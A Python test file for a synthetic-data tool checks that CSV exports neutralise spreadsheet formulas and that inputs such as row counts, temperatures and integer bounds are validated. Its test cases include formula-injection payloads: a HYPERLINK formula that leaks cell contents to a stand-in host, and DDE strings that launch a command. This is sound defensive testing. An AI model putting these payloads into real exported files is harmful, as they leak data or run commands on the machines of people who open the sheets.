"""Spreadsheet-safe exports and the small input checks of issue 11 (engine and CLI)."""

from __future__ import annotations

import json
import os

import pandas as pd
import pytest

from blowfish_core.interfaces.cli.main import main
from blowfish_core.base.errors import BlowfishError, BudgetError, SchemaError
from blowfish_core.io.exports import (
    neutralise_cell,
    neutralised_count,
    spreadsheet_safe,
    to_csv_safe,
)
from blowfish_core.base.input_checks import (
    MAX_GENERATED_ROWS,
    check_generated_n,
    check_integer_bounds,
    check_tau_normal,
)
from blowfish_core.model.schema import Schema
from blowfish_core.model.votes import check_tau


# ------------------------------------------------------------------ exports
@pytest.mark.parametrize("cell,expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("-3", "-3"),          # a plain number stays
    ("+1.5e3", "+1.5e3"),
    ("<=50K", "<=50K"),
    ("a=b", "a=b"),
    (-3, -3),
])
def test_neutralise_cell(cell, expected):
    assert neutralise_cell(cell) == expected


def test_spreadsheet_safe_frame_keeps_numbers_and_has_a_raw_option(tmp_path):
    df = pd.DataFrame({"name": ["=HYPERLINK(\"x\")", "ok", "-1"], "n": [-3, 4, -5], "f": [-0.5, 1.0, 2.0]})
    safe = spreadsheet_safe(df)
    assert safe["name"].tolist() == ["'=HYPERLINK(\"x\")", "ok", "-1"]
    assert safe["n"].tolist() == [-3, 4, -5] and safe["f"].tolist() == [-0.5, 1.0, 2.0]
    assert df["name"].iloc[0] == "=HYPERLINK(\"x\")"  # input not modified
    assert neutralised_count(df) == 1
    assert spreadsheet_safe(df, raw=True).equals(df)
    p = os.path.join(tmp_path, "o.csv")
    to_csv_safe(df, p)
    with open(p, encoding="utf-8") as f:
        assert f.read() == "name,n,f\n\"'=HYPERLINK(\"\"x\"\")\",-3,-0.5\nok,4,1.0\n-1,-5,2.0\n"
    assert to_csv_safe(df, raw=True).splitlines()[1] == "\"=HYPERLINK(\"\"x\"\")\",-3,-0.5"


# ------------------------------------------------------------------ checks
def test_generated_n_cap():
    assert check_generated_n(None) is None and check_generated_n(12000) == 12000
    with pytest.raises(BlowfishError) as e:
        check_generated_n(MAX_GENERATED_ROWS + 1, "--n")
    assert str(e.value) == ("--n = 1,000,001 generated records is above the cap of 1,000,000. "
                            "Fix: use at most 1,000,000 (the paper's XOR-3 uses 12,000)")
    with pytest.raises(BlowfishError, match=r"n must be >= 1 \(got 0\)"):
        check_generated_n(0)


def test_subnormal_tau_message():
    with pytest.raises(BudgetError) as e:
        check_tau(1e-320)
    assert str(e.value) == (
        "tau = 1e-320 is below the smallest normal float (2.23e-308): 1/tau overflows and the soft vote cannot "
        "be computed. Fix: use a temperature such as 0.03 (a tau far below the reach already votes like Hard; "
        "use the hard method for that)")
    assert check_tau(2.3e-308) == 2.3e-308 and check_tau_normal(0.03) == 0.03


def test_integer_bounds_beyond_2_53_are_a_schema_error():
    s = Schema.from_dict({"attributes": [
        {"name": "a", "type": "numeric", "lo": 0, "hi": 2**63, "integer": True},
        {"name": "b", "type": "binary", "levels": ["x", "y"]}]})
    with pytest.raises(SchemaError) as e:
        check_integer_bounds(s)
    assert str(e.value) == (
        "attribute 'a': integer bound hi=9223372036854775808 is beyond +-2^53 (9,007,199,254,740,992), the largest "
        "whole numbers the engine represents exactly. Fix: rescale the attribute (e.g. thousands) or declare it "
        "non-integer (\"integer\": false)")
    check_integer_bounds(Schema.from_dict({"attributes": [
        {"name": "a", "type": "numeric", "lo": 0, "hi": 2**63, "integer": False},
        {"name": "b", "type": "binary", "levels": ["x", "y"]}]}))  # non-integer: fine


# ------------------------------------------------------------------ CLI wiring
TINY = ["--rounds", "1", "--population", "8", "--release", "4", "--quiet"]


def _error_line(capsys, argv) -> str:
    rc = main(argv)
    out, err = capsys.readouterr()
    assert rc == 2, (out, err)
    [line] = err.strip().splitlines()
    return line


def test_cli_big_integer_bound_is_one_error_line(tmp_path, capsys):
    schema = os.path.join(tmp_path, "s.json")
    with open(schema, "w") as f:
        json.dump({"attributes": [{"name": "a", "type": "numeric", "lo": 0, "hi": 2**63, "integer": True},
                                  {"name": "b", "type": "binary", "levels": ["x", "y"]}]}, f)
    data = os.path.join(tmp_path, "d.csv")
    with open(data, "w") as f:
        f.write("a,b\n1,x\n2,y\n")
    line = _error_line(capsys, ["synth", "--data", data, "--schema", schema, "--method", "tab-pe", "--rho", "1",
                                "--out", os.path.join(tmp_path, "o.csv"), *TINY])
    assert line.startswith("error: attribute 'a': integer bound hi=9223372036854775808 is beyond +-2^53")


def test_cli_n_cap_subnormal_tau_and_empty_sep(tmp_path, capsys):
    out = os.path.join(tmp_path, "o.csv")
    line = _error_line(capsys, ["synth", "--preset", "xor3", "--n", "20000000", "--method", "hard", "--rho", "1",
                                "--out", out, *TINY])
    assert line == ("error: --n = 20,000,000 generated records is above the cap of 1,000,000. "
                    "Fix: use at most 1,000,000 (the paper's XOR-3 uses 12,000)")
    line = _error_line(capsys, ["synth", "--preset", "xor3", "--method", "bf-soft", "--tau", "1e-320", "--rho", "1",
                                "--out", out, *TINY])
    assert line.startswith("error: tau = 1e-320 is below the smallest normal float")
    data = os.path.join(tmp_path, "d.csv")
    with open(data, "w") as f:
        f.write("a,b\n1,x\n2,y\n")
    line = _error_line(capsys, ["schema", "--data", data, "--sep", ""])
    assert line.startswith("error: the separator is empty ('').")


def test_cli_out_is_spreadsheet_safe_unless_raw(tmp_path, capsys):
    schema = os.path.join(tmp_path, "s.json")
    with open(schema, "w") as f:
        json.dump({"attributes": [{"name": "link", "type": "binary", "levels": ["=HYPERLINK(\"x\")", "plain"]},
                                  {"name": "b", "type": "binary", "levels": ["x", "y"]}]}, f)
    data = os.path.join(tmp_path, "d.csv")
    with open(data, "w") as f:
        f.write('link,b\n' + '"=HYPERLINK(""x"")",x\nplain,y\n' * 5)
    for raw, prefix in ((False, "'="), (True, "=")):
        out = os.path.join(tmp_path, f"o{raw}.csv")
        argv = ["synth", "--data", data, "--schema", schema, "--method", "tab-pe", "--rho", "100", "--out", out,
                "--rounds", "1", "--population", "64", "--release", "64", "--quiet"] + (["--raw-values"] if raw else [])
        assert main(argv) == 0, capsys.readouterr()
        capsys.readouterr()
        back = pd.read_csv(out, keep_default_na=False)
        links = set(back["link"])
        assert any(v.startswith(prefix + "HYPERLINK") for v in links), links
        if not raw:
            assert not any(v.startswith("=") for v in links)
